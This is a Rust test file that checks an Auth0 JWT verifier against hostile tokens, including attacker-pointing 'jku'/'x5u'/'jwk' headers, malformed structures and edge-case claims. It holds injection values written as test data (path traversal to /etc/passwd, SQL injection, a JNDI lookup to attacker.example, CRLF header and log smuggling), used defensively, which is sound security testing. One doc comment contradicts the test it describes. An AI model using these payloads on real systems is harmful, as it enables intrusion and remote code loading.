//! More hostile tokens (issue #8): header keys that name other keys (`jku`, `x5u`, `jwk`) are
//! never followed or trusted, `kid` injection strings, `crit` shapes, duplicate keys, nested
//! and huge JSON, trailing data, numeric edge cases of `exp`/`iat`/`nbf`, leeway edges, and
//! audiences that only contain the expected value as a substring.
#![allow(missing_docs, clippy::wildcard_imports)]

mod common;

use std::sync::Arc;
use std::time::Duration;

use auth0_core::SecretString;
use auth0_jwt::{
    AccessTokenVerifier, Algorithm, AsymmetricSignatureVerifier, Error, HyperJwksFetcher,
    ManualClock, StaticJwks, SymmetricSignatureVerifier, TokenVerifier, VerifyOptions,
};
use auth0_testing::{FakeTenant, KeyAlgorithm, seed};
use common::*;
use serde_json::{Value, json};

const JWKS_PATH: &str = "/.well-known/jwks.json";
const API: &str = "https://api.example.com/";

fn hs_verifier() -> TokenVerifier {
    TokenVerifier::new(
        SymmetricSignatureVerifier::new(&SecretString::new(SECRET)),
        ISSUER,
        AUDIENCE,
    )
    .clock(clock())
}

fn hs_key() -> TestKey {
    TestKey::hmac(Algorithm::HS256, SECRET)
}

async fn hs_verify(token: &str) -> Result<auth0_jwt::Claims, Error> {
    hs_verifier().verify(token, &VerifyOptions::new()).await
}

fn rsa_fetcher() -> (TestKey, TestFetcher) {
    let key = TestKey::rsa(1, "k", Algorithm::RS256);
    let fetcher = TestFetcher::serving(jwks(&[&key]));
    (key, fetcher)
}

fn rsa_verifier(fetcher: &TestFetcher) -> TokenVerifier {
    let keys = AsymmetricSignatureVerifier::builder(fetcher.clone())
        .clock(clock())
        .build()
        .unwrap();
    TokenVerifier::new(keys, ISSUER, AUDIENCE).clock(clock())
}

fn at_verifier(key: &TestKey, clock: Arc<ManualClock>) -> AccessTokenVerifier {
    let keys = AsymmetricSignatureVerifier::builder(StaticJwks::new(jwks(&[key])))
        .clock(clock.clone())
        .build()
        .unwrap();
    AccessTokenVerifier::new(keys, ISSUER, API).clock(clock)
}

fn at_payload() -> Value {
    json!({
        "iss": ISSUER,
        "sub": "auth0|123456789",
        "aud": API,
        "iat": MOCKED_CLOCK,
        "exp": MOCKED_CLOCK + 3600,
    })
}

fn tenant_fetcher(tenant: &FakeTenant) -> HyperJwksFetcher {
    HyperJwksFetcher::builder(tenant.jwks_url())
        .allow_insecure_http(true)
        .timeout(Duration::from_secs(5))
        .build()
        .unwrap()
}

fn tenant_claims(tenant: &FakeTenant) -> Value {
    json!({
        "iss": tenant.issuer(),
        "sub": seed::USER_ID,
        "aud": seed::WEB_CLIENT_ID,
        "iat": tenant.now(),
        "exp": tenant.now() + 3600,
    })
}

/// `jku`, `x5u` and `jwk` name an attacker's keys. The verifier uses only its configured JWKS
/// URL: the attacker's tenant (a second fake tenant on loopback, serving real keys at the
/// named URLs) receives no request at all, whether the token is signed by the victim's key
/// (accepted: the extra header keys are ignored) or by the attacker's (refused).
#[tokio::test]
async fn jku_x5u_and_jwk_headers_are_never_fetched_or_trusted() {
    let victim = FakeTenant::start().await.unwrap();
    let attacker = FakeTenant::start().await.unwrap();
    let clock = Arc::new(ManualClock::at_secs(u64::try_from(victim.now()).unwrap()));
    let keys = AsymmetricSignatureVerifier::builder(tenant_fetcher(&victim))
        .algorithms(&[Algorithm::RS256, Algorithm::ES256])
        .clock(clock.clone())
        .build()
        .unwrap();
    let verifier =
        TokenVerifier::new(keys, victim.issuer(), seed::WEB_CLIENT_ID).clock(clock.clone());
    // The attacker signs with a key of its own (the fake tenants start from the same
    // fixture key; the rotated one is the next fixture, under a new kid).
    let attacker_kid = attacker.keys().rotate(KeyAlgorithm::Rs256);
    let victim_kid = victim.keys().signing_kid();
    assert!(!victim.keys().published_kids().contains(&attacker_kid));
    let attacker_jwk = attacker.keys().jwks()["keys"]
        .as_array()
        .unwrap()
        .iter()
        .find(|k| k["kid"] == json!(attacker_kid))
        .unwrap()
        .clone();
    let victim_jwk = victim.keys().jwks()["keys"][0].clone();
    assert_ne!(
        attacker_jwk["n"], victim_jwk["n"],
        "the attacker needs a different key"
    );
    let pointers = json!({
        "jku": attacker.jwks_url(),
        "x5u": format!("{}/x5u.pem", attacker.base_url()),
        "jwk": attacker_jwk,
        "x5c": ["MIIBszCCAVmgAwIBAgIUQ"],
    });
    let mut header = pointers.clone();
    header["kid"] = json!(victim_kid);

    // Signed by the victim's own key: the pointer headers change nothing.
    let honest = victim.sign_jwt(header.clone(), tenant_claims(&victim));
    verifier
        .verify(&honest, &VerifyOptions::new())
        .await
        .unwrap();

    // Signed by the attacker, claiming the victim's kid: the victim's key refuses it.
    let forged = attacker.sign_jwt(header, tenant_claims(&victim));
    let e = verifier
        .verify(&forged, &VerifyOptions::new())
        .await
        .unwrap_err();
    assert!(matches!(e, Error::InvalidSignature), "{e}");

    // Signed by the attacker under the attacker's kid, whose key sits in `jwk` and at `jku`.
    let mut header = pointers;
    header["kid"] = json!(attacker_kid);
    let forged = attacker.sign_jwt(header, tenant_claims(&victim));
    let e = verifier
        .verify(&forged, &VerifyOptions::new())
        .await
        .unwrap_err();
    assert!(matches!(e, Error::KeyNotFound { .. }), "{e}");

    assert!(
        attacker.journal().is_empty(),
        "the attacker's tenant was contacted: {:?}",
        attacker
            .journal()
            .iter()
            .map(|r| r.path.clone())
            .collect::<Vec<_>>()
    );
    let victim_paths: Vec<String> = victim.journal().iter().map(|r| r.path.clone()).collect();
    assert!(
        victim_paths.iter().all(|p| p == JWKS_PATH),
        "only the configured JWKS URL is fetched: {victim_paths:?}"
    );
    // One fetch on first use, at most one refetch for the unknown kid.
    assert!((1..=2).contains(&victim_paths.len()), "{victim_paths:?}");
}

/// `jku`/`x5u` pointing at the victim's own tenant, at a path that would answer: still no
/// request to anything but the configured JWKS URL.
#[tokio::test]
async fn jku_on_the_same_host_is_not_fetched_either() {
    let tenant = FakeTenant::start().await.unwrap();
    tenant.register_response(
        http::Method::GET,
        "/attacker/jwks.json",
        200,
        json!({"keys": []}),
    );
    let clock = Arc::new(ManualClock::at_secs(u64::try_from(tenant.now()).unwrap()));
    let keys = AsymmetricSignatureVerifier::builder(tenant_fetcher(&tenant))
        .algorithms(&[Algorithm::RS256, Algorithm::ES256])
        .clock(clock.clone())
        .build()
        .unwrap();
    let verifier = TokenVerifier::new(keys, tenant.issuer(), seed::WEB_CLIENT_ID).clock(clock);
    let token = tenant.sign_jwt(
        json!({
            "kid": "attacker",
            "jku": format!("{}/attacker/jwks.json", tenant.base_url()),
            "x5u": format!("{}/attacker/cert.pem", tenant.base_url()),
        }),
        tenant_claims(&tenant),
    );
    let e = verifier
        .verify(&token, &VerifyOptions::new())
        .await
        .unwrap_err();
    assert!(matches!(e, Error::KeyNotFound { .. }), "{e}");
    let paths: Vec<String> = tenant.journal().iter().map(|r| r.path.clone()).collect();
    assert!(paths.iter().all(|p| p == JWKS_PATH), "{paths:?}");
}

/// Path-, SQL-, URL- and control-character `kid`s are plain strings looked up in the key set:
/// each is "not found", and all of them together cause at most one refetch.
#[tokio::test]
async fn kid_injection_strings_are_just_unknown_kids() {
    let (key, fetcher) = rsa_fetcher();
    let verifier = rsa_verifier(&fetcher);
    let long = "k".repeat(4096);
    let kids = [
        "../../../../etc/passwd",
        "..\\..\\windows\\win.ini",
        "/dev/zero",
        "' OR '1'='1' --",
        "k'; DROP TABLE keys; --",
        "k\" OR \"\"=\"",
        "https://attacker.example/jwks.json",
        "file:///etc/passwd",
        "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
        "k\u{0}",
        "k\r\nX-Injected: 1",
        "${jndi:ldap://attacker.example/a}",
        "{{7*7}}",
        "*",
        "",
        long.as_str(),
    ];
    for kid in kids {
        let token = key.sign_with_header(&json!({"alg": "RS256", "kid": kid}), &default_payload());
        let e = verifier
            .verify(&token, &VerifyOptions::new())
            .await
            .unwrap_err();
        assert!(matches!(e, Error::KeyNotFound { .. }), "{kid:?}: {e}");
    }
    // The real key still works, and the hostile kids cost one fetch plus one refetch.
    verifier
        .verify(&key.sign(&default_payload()), &VerifyOptions::new())
        .await
        .unwrap();
    assert!(fetcher.count() <= 2, "{} fetches", fetcher.count());
}

/// A `kid` is echoed in the error message (as `auth0-python` does); control characters in it
/// must not let a token forge extra lines in a log.
#[tokio::test]
async fn kid_in_error_messages_cannot_forge_log_lines() {
    let (key, fetcher) = rsa_fetcher();
    let verifier = rsa_verifier(&fetcher);
    let token = key.sign_with_header(
        &json!({"alg": "RS256", "kid": "k\r\nlevel=INFO msg=\"token accepted\""}),
        &default_payload(),
    );
    let e = verifier
        .verify(&token, &VerifyOptions::new())
        .await
        .unwrap_err();
    let shown = e.to_string();
    assert!(
        !shown.contains('\n') && !shown.contains('\r'),
        "raw control characters from the token in the message: {shown:?}"
    );
}

/// RFC 7515 §4.1.11: `crit`, when present, is a non-empty array of names. `null` is not an
/// array; the verifier reads it as absent and accepts the token.
#[tokio::test]
async fn crit_null_is_refused() {
    let payload = default_payload().to_string();
    let token = sign_raw(
        &hs_key(),
        br#"{"alg":"HS256","crit":null}"#,
        payload.as_bytes(),
    );
    let e = hs_verify(&token).await.unwrap_err();
    assert!(matches!(e, Error::CriticalHeader | Error::Malformed), "{e}");
}

#[tokio::test]
async fn crit_in_any_shape_is_refused_or_rejected() {
    let payload = default_payload().to_string();
    for header in [
        r#"{"alg":"HS256","crit":[]}"#,
        r#"{"alg":"HS256","crit":["b64"],"b64":false}"#,
        r#"{"alg":"HS256","crit":"exp"}"#,
        r#"{"alg":"HS256","crit":[1]}"#,
    ] {
        let token = sign_raw(&hs_key(), header.as_bytes(), payload.as_bytes());
        match hs_verify(&token).await {
            Err(Error::CriticalHeader | Error::Malformed) => {}
            other => panic!("{header}: {other:?}"),
        }
    }
}

#[tokio::test]
async fn duplicate_keys_in_header_and_claims_are_refused() {
    let good_payload = default_payload().to_string();
    let header_cases = [
        r#"{"alg":"HS256","kid":"a","kid":"b"}"#,
        r#"{"alg":"HS256","typ":"JWT","typ":"at+jwt"}"#,
        r#"{"alg":"HS256","alg":"HS256"}"#,
    ];
    for header in header_cases {
        let token = sign_raw(&hs_key(), header.as_bytes(), good_payload.as_bytes());
        let e = hs_verify(&token).await.unwrap_err();
        assert!(matches!(e, Error::Malformed), "{header}: {e}");
    }
    // A second `aud`/`exp`/`sub` after a valid one must not win (or lose) silently.
    for (claim, second) in [
        ("aud", json!("someone-else")),
        ("exp", json!(1)),
        ("sub", json!("auth0|attacker")),
        ("nonce", json!("other")),
    ] {
        let mut text = default_payload().to_string();
        text.pop(); // the closing brace
        let text = format!("{text},\"{claim}\":{second}}}");
        let token = sign_raw(&hs_key(), br#"{"alg":"HS256"}"#, text.as_bytes());
        let e = hs_verify(&token).await.unwrap_err();
        assert!(matches!(e, Error::MalformedPayload), "{claim}: {e}");
    }
}

#[tokio::test]
async fn nested_and_huge_json_is_refused_or_capped_cleanly() {
    let payload = default_payload().to_string();
    // A deeply nested header.
    let deep_header = format!(
        r#"{{"alg":"HS256","x":{}{}}}"#,
        "[".repeat(5000),
        "]".repeat(5000)
    );
    let token = sign_raw(&hs_key(), deep_header.as_bytes(), payload.as_bytes());
    // Header members the verifier does not use are skipped without building them (serde's
    // IgnoredAny, no recursion), so this is accepted: what matters is that the 16 KiB cap
    // bounds the work and nothing overflows the stack.
    hs_verify(&token).await.unwrap();
    let deep_alg = format!(r#"{{"alg":{}{}}}"#, "[".repeat(5000), "]".repeat(5000));
    let token = sign_raw(&hs_key(), deep_alg.as_bytes(), payload.as_bytes());
    let e = hs_verify(&token).await.unwrap_err();
    assert!(
        matches!(e, Error::Malformed | Error::TooLarge { .. }),
        "{e}"
    );

    // A deeply nested value in an unknown claim, small enough to fit the cap.
    let deep_claim = with(
        default_payload(),
        "x",
        serde_json::from_str(&format!("{}{}", "[".repeat(100), "]".repeat(100))).unwrap(),
    );
    let deep_text = deep_claim.to_string().replace(
        &format!("{}{}", "[".repeat(100), "]".repeat(100)),
        &format!("{}{}", "[".repeat(3000), "]".repeat(3000)),
    );
    let token = sign_raw(&hs_key(), br#"{"alg":"HS256"}"#, deep_text.as_bytes());
    let e = hs_verify(&token).await.unwrap_err();
    assert!(matches!(e, Error::MalformedPayload), "{e}");

    // A token just under the 16 KiB cap with one big claim verifies; just over is TooLarge.
    let mut size = 11_000;
    let under = loop {
        let t = hs_key().sign(&with(default_payload(), "blob", json!("a".repeat(size))));
        if t.len() > auth0_jwt::DEFAULT_MAX_TOKEN_BYTES - 100 {
            break t;
        }
        size += 50;
    };
    assert!(under.len() <= auth0_jwt::DEFAULT_MAX_TOKEN_BYTES);
    hs_verify(&under).await.unwrap();
    let over = hs_key().sign(&with(
        default_payload(),
        "blob",
        json!("a".repeat(size + 200)),
    ));
    assert!(over.len() > auth0_jwt::DEFAULT_MAX_TOKEN_BYTES);
    let e = hs_verify(&over).await.unwrap_err();
    assert!(matches!(e, Error::TooLarge { .. }), "{e}");

    // Many small claims.
    let mut many = default_payload();
    for i in 0..1000 {
        many[format!("c{i}")] = json!(i);
    }
    hs_verify(&hs_key().sign(&many)).await.unwrap();
}

#[tokio::test]
async fn trailing_data_and_wrong_segment_counts_are_refused() {
    let good = hs_key().sign(&default_payload());
    hs_verify(&good).await.unwrap();
    let cases = [
        format!("{good}."),
        format!("{good}.AAAA"),
        format!("{good}\n"),
        format!("{good} "),
        format!("{good}\0"),
        format!("{good}=="),
        format!("{good}A"),
        format!("{good}#frag"),
        format!("{good};{good}"),
        format!("{good}.{good}"),
    ];
    for token in &cases {
        let e = hs_verify(token).await.unwrap_err();
        assert!(
            matches!(e, Error::Malformed | Error::InvalidSignature),
            "{:?}: {e}",
            &token[token.len().saturating_sub(8)..]
        );
    }
    // JSON with trailing data inside a segment.
    let payload = format!("{} x", default_payload());
    let token = sign_raw(&hs_key(), br#"{"alg":"HS256"}"#, payload.as_bytes());
    let e = hs_verify(&token).await.unwrap_err();
    assert!(matches!(e, Error::MalformedPayload), "{e}");
    let token = sign_raw(
        &hs_key(),
        br#"{"alg":"HS256"}{}"#,
        default_payload().to_string().as_bytes(),
    );
    let e = hs_verify(&token).await.unwrap_err();
    assert!(matches!(e, Error::Malformed), "{e}");
}

/// `exp` and `iat` must be integers: floats, strings, booleans, nulls and numbers outside i64
/// are "must be a number"; negative and extreme integers are compared without overflow.
#[tokio::test]
async fn exp_and_iat_numeric_edge_cases() {
    let not_numbers = [
        json!(1_587_765_361.5),
        json!(1.587_765_361e9),
        json!("1587765361"),
        json!(true),
        json!(null),
        json!([1_587_765_361]),
        json!(u64::MAX),
    ];
    for value in &not_numbers {
        let e = hs_verify(&hs_key().sign(&with(default_payload(), "exp", value.clone())))
            .await
            .unwrap_err();
        assert!(matches!(e, Error::ExpirationMissing(_)), "exp {value}: {e}");
        let e = hs_verify(&hs_key().sign(&with(default_payload(), "iat", value.clone())))
            .await
            .unwrap_err();
        assert!(matches!(e, Error::IssuedAtMissing(_)), "iat {value}: {e}");
    }
    for exp in [i64::MIN, -1, 0] {
        let e = hs_verify(&hs_key().sign(&with(default_payload(), "exp", json!(exp))))
            .await
            .unwrap_err();
        assert!(matches!(e, Error::Expired { .. }), "exp {exp}: {e}");
    }
    // An exp beyond i64 written as a JSON number with an exponent, and one with 400 digits.
    for raw in ["1e19", "1e400", &"9".repeat(400)] {
        let text = default_payload().to_string().replace("1587765361", raw);
        let token = sign_raw(&hs_key(), br#"{"alg":"HS256"}"#, text.as_bytes());
        let e = hs_verify(&token).await.unwrap_err();
        assert!(
            matches!(e, Error::ExpirationMissing(_) | Error::MalformedPayload),
            "exp {}: {e}",
            &raw[..raw.len().min(8)]
        );
    }
    // iat far in the past or negative is allowed (auth0-python checks only that it is a
    // number); far in the future likewise (Auth0 does not check iat against the clock).
    for iat in [i64::MIN, -1, 0, i64::MAX] {
        hs_verify(&hs_key().sign(&with(default_payload(), "iat", json!(iat))))
            .await
            .unwrap();
    }
}

/// `exp` with the default 60 s leeway, with a custom leeway, and with none.
#[tokio::test]
async fn expiry_at_the_edges_of_the_leeway() {
    let exp = i64::try_from(MOCKED_CLOCK).unwrap();
    let at = |offset: i64| with(default_payload(), "exp", json!(exp - offset));
    // now = MOCKED_CLOCK; exp = now - 59 s: inside the default 60 s leeway.
    hs_verify(&hs_key().sign(&at(59))).await.unwrap();
    let e = hs_verify(&hs_key().sign(&at(61))).await.unwrap_err();
    assert!(matches!(e, Error::Expired { .. }), "{e}");

    let strict = hs_verifier().leeway(Duration::ZERO);
    strict
        .verify(&hs_key().sign(&at(-1)), &VerifyOptions::new())
        .await
        .unwrap();
    let e = strict
        .verify(&hs_key().sign(&at(1)), &VerifyOptions::new())
        .await
        .unwrap_err();
    assert!(matches!(e, Error::Expired { .. }), "{e}");

    let lax = hs_verifier().leeway(Duration::from_secs(3600));
    lax.verify(&hs_key().sign(&at(3599)), &VerifyOptions::new())
        .await
        .unwrap();
    let huge = hs_verifier().leeway(Duration::from_secs(u64::MAX));
    let e = huge
        .verify(
            &hs_key().sign(&with(default_payload(), "exp", json!(i64::MIN))),
            &VerifyOptions::new(),
        )
        .await;
    // An absurd leeway saturates instead of overflowing; either outcome is fine, no panic.
    drop(e);
}

/// `nbf` on access tokens: inside and outside the leeway, with no leeway, and odd types.
#[tokio::test]
async fn not_before_with_and_without_leeway() {
    let key = TestKey::rsa(1, "k", Algorithm::RS256);
    let now = i64::try_from(MOCKED_CLOCK).unwrap();
    let token = |nbf: Value| key.sign(&with(at_payload(), "nbf", nbf));
    let v = at_verifier(&key, clock());
    v.verify(&token(json!(now))).await.unwrap();
    v.verify(&token(json!(now + 59))).await.unwrap();
    let e = v.verify(&token(json!(now + 61))).await.unwrap_err();
    assert!(matches!(e, Error::NotYetValid { .. }), "{e}");
    assert_eq!(
        e.to_string(),
        format!(
            "Not Before (nbf) claim error in the access token; current time ({now}) is before not-before time ({})",
            now + 1
        )
    );
    v.verify(&token(json!(i64::MIN))).await.unwrap();
    let e = v.verify(&token(json!(i64::MAX))).await.unwrap_err();
    assert!(matches!(e, Error::NotYetValid { .. }), "{e}");

    let strict = at_verifier(&key, clock()).leeway(Duration::ZERO);
    strict.verify(&token(json!(now))).await.unwrap();
    let e = strict.verify(&token(json!(now + 1))).await.unwrap_err();
    assert!(matches!(e, Error::NotYetValid { .. }), "{e}");

    // A non-integer nbf is not silently ignored.
    for odd in [json!(1.5), json!("0"), json!(true), json!(u64::MAX)] {
        let e = v.verify(&token(odd.clone())).await.unwrap_err();
        assert!(
            matches!(e, Error::MalformedPayload | Error::NotYetValid { .. }),
            "nbf {odd}: {e}"
        );
    }
}

/// The expected audience as a substring, prefix, suffix, case variant or nested array is
/// not a match.
#[tokio::test]
async fn audience_substrings_are_not_matches() {
    let near_misses = [
        json!("tokens-test-1234"),
        json!("xtokens-test-123"),
        json!("tokens-test-12"),
        json!("TOKENS-TEST-123"),
        json!("tokens-test-123 "),
        json!(" tokens-test-123"),
        json!("tokens-test-123,external-test-999"),
        json!("tokens-test-123\u{0}"),
        json!(["tokens-test-1234", "external-test-999"]),
        json!(["tokens-test-123x"]),
    ];
    for aud in &near_misses {
        let e = hs_verify(&hs_key().sign(&with(default_payload(), "aud", aud.clone())))
            .await
            .unwrap_err();
        assert!(
            matches!(
                e,
                Error::AudienceMismatch { .. } | Error::AudienceNotInList { .. }
            ),
            "aud {aud}: {e}"
        );
    }
    for aud in [
        json!([["tokens-test-123"]]),
        json!({"aud": "tokens-test-123"}),
        json!(123),
    ] {
        let e = hs_verify(&hs_key().sign(&with(default_payload(), "aud", aud.clone())))
            .await
            .unwrap_err();
        assert!(
            matches!(e, Error::AudienceMissing(_) | Error::MalformedPayload),
            "aud {aud}: {e}"
        );
    }
    // Access tokens: the API identifier without its trailing slash, or with a path, is not it.
    let key = TestKey::rsa(1, "k", Algorithm::RS256);
    let v = at_verifier(&key, clock());
    for aud in [
        json!("https://api.example.com"),
        json!("https://api.example.com/x"),
        json!(["https://api.example.com/#", "https://api.example.com//"]),
    ] {
        let e = v
            .verify(&key.sign(&with(at_payload(), "aud", aud.clone())))
            .await
            .unwrap_err();
        assert!(
            matches!(
                e,
                Error::AudienceMismatch { .. } | Error::AudienceNotInList { .. }
            ),
            "aud {aud}: {e}"
        );
    }
}

/// Every wrong segment count is `Malformed`, wherever the extra or missing dot is (the token is
/// split at its first and last dot; a dot in the payload is caught where it fails to decode).
#[tokio::test]
async fn segment_counts_are_malformed_wherever_the_dot_is() {
    let good = hs_key().sign(&default_payload());
    let (head, signature) = good.rsplit_once('.').unwrap();
    let (header, payload) = head.split_once('.').unwrap();
    let (p1, p2) = payload.split_at(payload.len() / 2);
    let malformed = [
        format!("{good}."),
        format!("{good}.AAAA"),
        format!("{good}.{good}"),
        format!("{header}.{p1}.{p2}.{signature}"),
        format!("{header}..{payload}.{signature}"),
        format!("{header}.{payload}..{signature}"),
        format!("{header}.{payload}"),
        format!("{header}..{signature}"),
        format!(".{payload}.{signature}"),
        format!("{header}{payload}{signature}"),
        "..".to_owned(),
        "...".to_owned(),
        ".".to_owned(),
    ];
    for token in &malformed {
        let e = hs_verify(token).await.unwrap_err();
        assert!(matches!(e, Error::Malformed), "{token}: {e}");
    }
    // An empty signature segment is three segments: the signature is checked (and fails).
    let e = hs_verify(&format!("{head}.")).await.unwrap_err();
    assert!(matches!(e, Error::InvalidSignature), "{e}");
    // A payload that is not base64url (without a dot) is reported after the signature check.
    let input = format!("{}.*", b64(br#"{"alg":"HS256"}"#));
    let signature = b64(&hs_key().sign_bytes(input.as_bytes()));
    let e = hs_verify(&format!("{input}.{signature}"))
        .await
        .unwrap_err();
    assert!(matches!(e, Error::MalformedPayload), "{e}");
    let e = hs_verify(&format!("{input}.{}", b64(b"forged")))
        .await
        .unwrap_err();
    assert!(matches!(e, Error::InvalidSignature), "{e}");
}
